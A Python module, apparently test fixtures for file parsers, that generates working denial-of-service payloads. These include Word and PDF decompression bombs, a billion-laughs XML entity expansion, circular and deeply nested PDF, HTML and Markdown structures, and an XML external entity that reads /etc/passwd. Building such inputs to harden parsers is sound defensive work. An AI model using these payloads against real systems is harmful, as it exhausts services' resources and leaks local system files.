"""Files that are made to harm whoever opens them: they unpack to gigabytes, or never come to an end."""

import io
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Target="word/document.xml" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
WORD = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BODY = b"<w:document %s><w:body>%s</w:body></w:document>"


def word_file(document: bytes, *more: tuple[str, bytes]) -> bytes:
    """Return a Word file with this document part."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as container:
        container.writestr("[Content_Types].xml", TYPES)
        container.writestr("_rels/.rels", RELATIONS)
        container.writestr("word/document.xml", document)
        for name, content in more:
            container.writestr(name, content)
    return held.getvalue()


def inflating_word_file(megabytes: int = 400) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as container:
        container.writestr("[Content_Types].xml", TYPES)
        container.writestr("_rels/.rels", RELATIONS)
        with container.open("word/document.xml", "w") as part:
            part.write(b"<w:document " + WORD + b"><w:body><w:p><w:r><w:t>")
            for _ in range(megabytes):
                part.write(b"a " * 524_288)
            part.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return held.getvalue()


def understated_word_file() -> bytes:
    """Return a file whose directory says that its parts are small."""
    source = inflating_word_file(60)
    size = 60 * 1_048_576 + len(b"<w:document " + WORD + b"><w:body><w:p><w:r><w:t>") + 41
    return source.replace(size.to_bytes(4, "little"), (5_000).to_bytes(4, "little"))


def nested_archive() -> bytes:
    inner = inflating_word_file(20)
    return word_file(BODY % (WORD, b""), *((f"word/embeddings/{one}.docx", inner) for one in range(2_100)))


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    head = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">{entities}]>'.encode()
    return word_file(head + BODY % (WORD, b"<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>"))


def outside_entity() -> bytes:
    head = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return word_file(head + BODY % (WORD, b"<w:p><w:r><w:t>before &x; after</w:t></w:r></w:p>"))


def deep_word_file() -> bytes:
    return word_file(BODY % (WORD, b"<w:sdt><w:sdtContent>" * 50_000 + b"</w:sdtContent></w:sdt>" * 50_000))


def pdf(*objects: bytes) -> bytes:
    """Return a PDF of these objects, the first of which is its catalog."""
    parts, places = [b"%PDF-1.7\n"], []
    for number, content in enumerate(objects, 1):
        places.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start = sum(map(len, parts))
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table))
    parts.append(b"trailer <</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, start))
    return b"".join(parts)


def stream(content: bytes, head: bytes = b"") -> bytes:
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (head, len(content), content)


CATALOG = b"<</Type /Catalog /Pages 2 0 R>>"
FONT = b"/Resources <</Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>>>"


def pdf_of_pages(*pages: bytes) -> bytes:
    """Return a PDF with one content stream a page."""
    kids = b" ".join(b"%d 0 R" % (3 + 2 * place) for place in range(len(pages)))
    objects = [CATALOG, b"<</Type /Pages /Kids [%s] /Count %d>>" % (kids, len(pages))]
    for place, content in enumerate(pages):
        objects.append(b"<</Type /Page /Parent 2 0 R /Contents %d 0 R %s>>" % (4 + 2 * place, FONT))
        objects.append(stream(content))
    return pdf(*objects)


def inflating_pdf(megabytes: int = 2_000) -> bytes:
    pack = zlib.compressobj(9)
    packed = b"".join(pack.compress(b" " * 1_048_576) for _ in range(megabytes)) + pack.flush()
    kids = b"<</Type /Pages /Kids [3 0 R] /Count 1>>"
    page = b"<</Type /Page /Parent 2 0 R /Contents 4 0 R %s>>" % FONT
    return pdf(CATALOG, kids, page, stream(packed, b"/Filter /FlateDecode"))


def circling_pdf() -> bytes:
    return pdf(CATALOG, b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 2>>")


def pdf_of_many_pages(count: int = 100_000) -> bytes:
    kids = b"3 0 R " * count
    page = b"<</Type /Page /Parent 2 0 R /Contents 4 0 R %s>>" % FONT
    return pdf(
        CATALOG, b"<</Type /Pages /Kids [%s] /Count %d>>" % (kids, count), page, stream(b"BT (a) Tj ET")
    )


def endless_pdf() -> bytes:
    """Return a page with millions of letters to place."""
    return pdf_of_pages(b"BT /F1 9 Tf " + b"1 0 0 1 3 4 Tm (a) Tj " * 400_000 + b"ET")


BOMBS: dict[str, Callable[[], tuple[str, bytes]]] = {
    "a Word file of 400 MB": lambda: ("a.docx", inflating_word_file()),
    "a Word file that understates its size": lambda: ("a.docx", understated_word_file()),
    "a Word file of 2,100 Word files": lambda: ("a.docx", nested_archive()),
    "a billion laughs": lambda: ("a.docx", laughs()),
    "a Word file nested 50,000 deep": lambda: ("a.docx", deep_word_file()),
    "a PDF of 2 GB": lambda: ("a.pdf", inflating_pdf()),
    "a PDF whose pages go round": lambda: ("a.pdf", circling_pdf()),
    "a PDF of 100,000 pages": lambda: ("a.pdf", pdf_of_many_pages()),
    "a PDF of 400,000 letters": lambda: ("a.pdf", endless_pdf()),
    "a page nested 300,000 deep": lambda: ("a.html", b"<div>" * 300_000 + b"deep"),
    "a page of 1,800,000 paragraphs": lambda: ("a.html", b"<p>a" * 1_800_000),
    "a page of one attribute of 9 MB": lambda: ("a.html", b"<p class='" + b"a-b " * 2_250_000 + b"'>words"),
    "a page of one open tag of 9 MB": lambda: ("a.html", b"<a " * 3_000_000),
    "Markdown of open comments": lambda: ("a.md", b"<!--" * 240_000),
    "Markdown of open brackets": lambda: ("a.md", b"[" * 950_000),
}


@cache
def bomb(name: str) -> tuple[str, bytes]:
    """Return a bomb as a file name and its bytes."""
    return BOMBS[name]()
